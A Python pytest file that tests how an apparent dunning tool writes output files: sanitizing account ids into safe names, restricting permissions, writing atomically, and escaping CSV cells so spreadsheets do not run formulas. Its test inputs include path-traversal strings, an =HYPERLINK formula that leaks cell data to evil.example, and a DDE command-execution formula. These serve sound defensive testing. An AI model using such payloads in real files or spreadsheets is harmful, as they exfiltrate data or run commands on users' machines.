"""Output files: safe names from account ids, restrictive modes, atomic writes, and CSV cells a
spreadsheet shows as text instead of running them as formulas."""

from __future__ import annotations

import csv
import os
import stat
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dunning.errors import OutputError
from dunning.output import (
    DIR_MODE,
    FILE_MODE,
    MAX_NAME,
    ManifestEntry,
    csv_cell,
    ensure_dir,
    manifest_line,
    safe_name,
    write_bytes_atomic,
    write_csv_atomic,
    write_json_atomic,
)

# --------------------------------------------------------------------------- safe_name

WINDOWS_RESERVED = ["CON", "PRN", "AUX", "NUL", "COM1", "COM9", "LPT1", "LPT9", "con", "Nul",
                    "CON.pdf", "lpt1.txt"]


def _is_safe(name: str) -> bool:
    stem = name.split(".")[0].upper()
    return (
        0 < len(name) <= MAX_NAME
        and all(c.isascii() and (c.isalnum() or c in "._-~") for c in name)
        and not name.startswith((".", "-"))
        and not name.endswith(".")
        and stem not in {"CON", "PRN", "AUX", "NUL"}
        and not (stem[:3] in ("COM", "LPT") and stem[3:].isdigit())
    )


@pytest.mark.parametrize("account_id", [
    "../etc/passwd", "../../config/brands.yaml", "..", ".", "...", "/", "/etc/passwd",
    "..\\..\\windows\\system32", "a/../../b", "C:\\x", "\\\\server\\share", "%2e%2e%2f",
    ".hidden", "-rf", "--help", "trailing.", "a\x00b", "a\nb", "a\u202eb", "\u200b",
    "ＡＢＣ", "王小明", "", " ", "a b", "a:b", "a*b?c", "x" * 300, "." * 300,
    *WINDOWS_RESERVED,
])
def test_safe_names_are_safe(account_id: str) -> None:
    name = safe_name(account_id)
    assert _is_safe(name), name
    assert name == safe_name(account_id), "deterministic"
    assert os.sep not in name
    assert name not in (".", "..")


@pytest.mark.parametrize("account_id", ["MT-000001", "JQ-000007", "a_b.c-d", "X1"])
def test_ordinary_ids_are_kept(account_id: str) -> None:
    assert safe_name(account_id) == account_id


@pytest.mark.parametrize("account_id", WINDOWS_RESERVED)
def test_reserved_device_names_are_changed(account_id: str) -> None:
    assert safe_name(account_id).startswith("_")


def test_long_ids_are_cut_and_stay_distinct() -> None:
    a, b = "A" * 299 + "1", "A" * 299 + "2"
    assert len(safe_name(a)) == MAX_NAME
    assert safe_name(a) != safe_name(b)


@pytest.mark.parametrize("ids", [
    ["a/b", "a_b", "a:b", "a\\b", "a b"],
    ["..x", "x", ".x", "x."],
    ["CON", "_CON", "con"],
    ["王", "明", "_"],
])
def test_ids_that_sanitize_alike_get_different_stable_names(ids: list[str]) -> None:
    names = [safe_name(i) for i in ids]
    assert len(set(names)) == len(ids), names
    assert names == [safe_name(i) for i in ids]


@given(st.text(max_size=120), st.text(max_size=120))
def test_safe_name_never_collides_or_escapes(a: str, b: str) -> None:
    assert _is_safe(safe_name(a))
    if a != b:
        assert safe_name(a) != safe_name(b)


# --------------------------------------------------------------------------- modes


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_new_folders_get_the_folder_mode_at_every_level(tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        target = ensure_dir(tmp_path / "out" / "mingtai" / "formal")
    finally:
        os.umask(old)
    for folder in (tmp_path / "out", tmp_path / "out" / "mingtai", target):
        assert _mode(folder) == DIR_MODE, folder


def test_a_file_where_a_folder_should_be_is_an_output_error(tmp_path: Path) -> None:
    (tmp_path / "out").write_text("x")
    with pytest.raises(OutputError, match="cannot create folder"):
        ensure_dir(tmp_path / "out")


@pytest.mark.parametrize("umask", [0o000, 0o022, 0o002])
def test_files_are_written_owner_and_group_readable_only(tmp_path: Path, umask: int) -> None:
    old = os.umask(umask)
    try:
        write_bytes_atomic(tmp_path / "a" / "letter.pdf", b"%PDF-1.7")
        write_json_atomic(tmp_path / "a" / "summary.json", {"rows": 1})
        write_csv_atomic(tmp_path / "a" / "ledger.csv", ["a"], [["1"]])
    finally:
        os.umask(old)
    for name in ("letter.pdf", "summary.json", "ledger.csv"):
        assert _mode(tmp_path / "a" / name) == FILE_MODE, name
    assert _mode(tmp_path / "a") == DIR_MODE
    assert sorted(p.name for p in (tmp_path / "a").iterdir()) == [
        "ledger.csv", "letter.pdf", "summary.json"], "no temp file left behind"


# --------------------------------------------------------------------------- CSV


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("-", "'-"),
    ("王小明", "王小明"),
    ("MT-000001", "MT-000001"),
    ("a=b", "a=b"),
    ("", ""),
    ("-200.00", "-200.00"),
    ("12000.00", "12000.00"),
    ("+86 138 1234 5678", "'+86 138 1234 5678"),
    (Decimal("-200.00"), "-200.00"),
    (-3, "-3"),
    (None, ""),
    (True, "True"),
])
def test_csv_cell_neutralizes_formulas(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_write_csv_atomic_round_trip(tmp_path: Path) -> None:
    path = tmp_path / "ledger.csv"
    rows = [
        {"account_id": "MT-1", "note": "=1+1", "amount": Decimal("-200.00")},
        ["MT-2", "line one\nline two, \"quoted\"", "12.50"],
        {"account_id": "MT-3"},
    ]
    assert write_csv_atomic(path, ["account_id", "note", "amount"], rows) == 3
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "a BOM, so that Excel reads UTF-8"
    with path.open(encoding="utf-8-sig", newline="") as handle:
        read = list(csv.reader(handle))
    assert read == [
        ["account_id", "note", "amount"],
        ["MT-1", "'=1+1", "-200.00"],
        ["MT-2", "line one\nline two, \"quoted\"", "12.50"],
        ["MT-3", "", ""],
    ]


def test_write_csv_atomic_header_cells_are_neutralized_too(tmp_path: Path) -> None:
    write_csv_atomic(tmp_path / "x.csv", ["=a"], [])
    assert (tmp_path / "x.csv").read_text("utf-8-sig").splitlines() == ["'=a"]


@pytest.mark.parametrize("rows", [
    [{"account_id": "MT-1", "name": "王"}],
    [["MT-1", "extra"]],
])
def test_write_csv_atomic_refuses_bad_rows_and_leaves_nothing(
    tmp_path: Path, rows: list[object],
) -> None:
    path = tmp_path / "ledger.csv"
    path.write_text("old", "utf-8")
    with pytest.raises(ValueError, match=r"ledger\.csv"):
        write_csv_atomic(path, ["account_id"], rows)  # type: ignore[arg-type]
    assert path.read_text("utf-8") == "old", "the old file is untouched"
    assert [p.name for p in tmp_path.iterdir()] == ["ledger.csv"]


# --------------------------------------------------------------------------- manifest lines


@pytest.mark.parametrize("values", [
    {"account_id": "MT-1", "source": "a.csv:2", "outcome": "rendered", "stage": "formal",
     "locale": "zh_CN", "path": "mingtai/formal/MT-1.pdf", "brand": "mingtai",
     "total": "2118.41", "currency": "CNY", "capped": False, "postal_code": "230011"},
    {"brand": "jinqiao", "reason": "recent_notice: last letter 3 days ago", "locale": "en_GB",
     "outcome": "suppressed", "source": '/data/"ex\\port"\n.csv:9', "account_id": "JQ-2"},
    {"account_id": None, "source": "b.yaml:1", "outcome": "rejected", "reason": "名字 \u2028"},
])
def test_manifest_line_is_the_entry_s_json(values: dict[str, Any]) -> None:
    """The dry run's lines, made without the entry, are the entry's own, whatever order the
    fields come in and whatever characters they hold."""
    assert manifest_line(values) == ManifestEntry(**values).to_json()
